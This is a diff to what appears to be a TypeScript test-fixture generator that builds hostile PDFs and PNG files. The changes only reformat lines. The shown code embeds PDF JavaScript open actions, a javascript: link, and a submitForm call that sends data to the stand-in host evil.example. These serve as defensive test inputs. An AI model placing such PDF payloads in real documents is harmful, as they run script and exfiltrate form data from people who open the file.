@@ -58,7 +58,10 @@ export async function scriptedPdf(): Promise<Uint8Array> {
   page.drawText('Run this', { x: 56, y: 640, size: 16, font, color: rgb(0.8, 0, 0) });
   const script = 'window.pwned = "open-action"; app.alert("pwned"); this.submitForm("https://evil.example/steal");';
   doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) }));
-  page.node.set(PDFName.of('AA'), doc.context.obj({ O: { Type: 'Action', S: 'JavaScript', JS: PDFString.of('window.pwned = "page-open";') } }));
+  page.node.set(
+    PDFName.of('AA'),
+    doc.context.obj({ O: { Type: 'Action', S: 'JavaScript', JS: PDFString.of('window.pwned = "page-open";') } }),
+  );
   addLink(doc, page, [50, 690, 200, 716], 'https://example.org/results');
   addLink(doc, page, [50, 630, 200, 656], 'javascript:window.pwned="link"');
   return doc.save();
@@ -84,7 +87,11 @@ export async function fontMatrixInjectionPdf(): Promise<Uint8Array> {
   page.node.normalize();
   page.node.setFontDictionary(PDFName.of('FX'), font);
   const content = doc.context.flateStream(
-    ['0 0.37 0.72 rg 56 700 480 60 re f', 'BT /FX 28 Tf 7 Tr 60 600 Td (Injected outline text) Tj ET', 'BT /FX 28 Tf 0 Tr 60 540 Td (Injected fill text) Tj ET'].join('\n'),
+    [
+      '0 0.37 0.72 rg 56 700 480 60 re f',
+      'BT /FX 28 Tf 7 Tr 60 600 Td (Injected outline text) Tj ET',
+      'BT /FX 28 Tf 0 Tr 60 540 Td (Injected fill text) Tj ET',
+    ].join('\n'),
   );
   page.node.addContentStream(doc.context.register(content));
   return doc.save();
@@ -216,7 +223,12 @@ export function png(width: number, height: number, pixel: (x: number, y: number)
     const row = y * (width * 3 + 1);
     for (let x = 0; x < width; x += 1) raw.set(pixel(x, y), row + 1 + x * 3);
   }
-  const parts = [new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(raw)), chunk('IEND', new Uint8Array(0))];
+  const parts = [
+    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(raw)),
+    chunk('IEND', new Uint8Array(0)),
+  ];
   const total = parts.reduce((sum, part) => sum + part.length, 0);
   const out = new Uint8Array(total);
   let at = 0;
